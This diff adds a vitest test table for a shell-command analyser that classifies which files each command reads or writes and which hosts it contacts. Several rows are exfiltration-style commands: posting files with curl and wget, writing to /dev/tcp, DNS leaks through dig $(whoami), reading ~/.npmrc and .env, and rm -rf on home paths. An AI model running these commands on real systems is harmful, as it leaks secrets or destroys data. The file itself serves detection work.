@@ -1,0 +1,63 @@
+import { beforeAll, describe, expect, it } from "vitest";
+import { analyseShell, loadShellParser } from "../../../src/rules/shell/analyse.ts";
+
+beforeAll(loadShellParser);
+
+type Row = readonly [
+  line: string,
+  reads: readonly string[],
+  writes: readonly string[],
+  connects: readonly string[],
+];
+
+const ROWS: readonly Row[] = [
+  ["cat a b", ["a", "b"], [], []],
+  ["head -n 5 a", ["a"], [], []],
+  ["grep -n foo a b", ["a", "b"], [], []],
+  ["grep -e foo a", ["a"], [], []],
+  ["sed -n 1p a", ["a"], [], []],
+  ["sed -i s/a/b/ a", [], ["a"], []],
+  ["cp a b dir/", ["a", "b"], ["dir/"], []],
+  ["cp -t dir a", ["a"], ["dir"], []],
+  ["mv a b", [], ["b", "a"], []],
+  ["rm -rf a ~/b ../c", [], ["a", "~/b", "../c"], []],
+  ["tee -a log < in", ["in"], ["log"], []],
+  ["echo x >> out 2> err", [], ["out", "err"], []],
+  ["dd if=a of=b bs=1M", ["a"], ["b"], []],
+  ["tar czf x.tgz src", ["src"], ["x.tgz"], []],
+  ["tar -xf x.tgz -C out", ["x.tgz"], ["out"], []],
+  ["chmod +x a", [], ["a"], []],
+  ["truncate -s 0 a", [], ["a"], []],
+  ["find . -name '*.tmp' -exec rm {} +", [], ["./**/*.tmp"], []],
+  ["cd /srv && cat a ../b /c", ["/srv/a", "/srv/../b", "/c"], [], []],
+  ["(cd sub; cat a); cat b", ["sub/a", "b"], [], []],
+  ['cat "$HOME/.npmrc"', ["~/.npmrc"], [], []],
+  ["source .env", [".env"], [], []],
+  ["curl -o out https://a.example/x", [], ["out"], ["a.example"]],
+  ["curl -O https://a.example/x.zip", [], ["x.zip"], ["a.example"]],
+  ["curl -d @body -F f=@pic A.example:8080", ["body", "pic"], [], ["a.example"]],
+  ["wget --post-file=f https://u:p@b.example/", ["f"], ["index.html"], ["b.example"]],
+  ["nc -w 3 c.example 80", [], [], ["c.example"]],
+  ["scp -P 22 a u@d.example:b", ["a"], [], ["d.example"]],
+  ["rsync -a src/ dst/", ["src/"], ["dst/"], []],
+  ["ssh -i key u@e.example ls", ["key"], [], ["e.example"]],
+  ["dig +short f.example @1.1.1.1", [], [], ["f.example", "1.1.1.1"]],
+  ["dig $(whoami).g.example", [], [], ["*.g.example"]],
+  ["git clone https://h.example/r.git", [], [], ["h.example"]],
+  ["cat a > /dev/tcp/i.example/80", ["a"], [], ["i.example"]],
+  ["exec 3<>/dev/tcp/j.example/80; cat a >&3", ["a"], [], ["j.example"]],
+  ["aws s3 cp a s3://bucket/", ["a"], [], ["bucket"]],
+  ["python3 -c \"open('/etc/hosts')\"", ["/etc/hosts"], [], []],
+  ["node -e \"fetch('https://k.example/x')\"", [], [], ["k.example"]],
+];
+
+describe("what a command touches", () => {
+  it.each(ROWS)("%s", (line, reads, writes, connects) => {
+    const found = analyseShell(line);
+    expect({ reads: found.reads, writes: found.writes, connects: found.connects }).toEqual({
+      reads,
+      writes,
+      connects,
+    });
+  });
+});
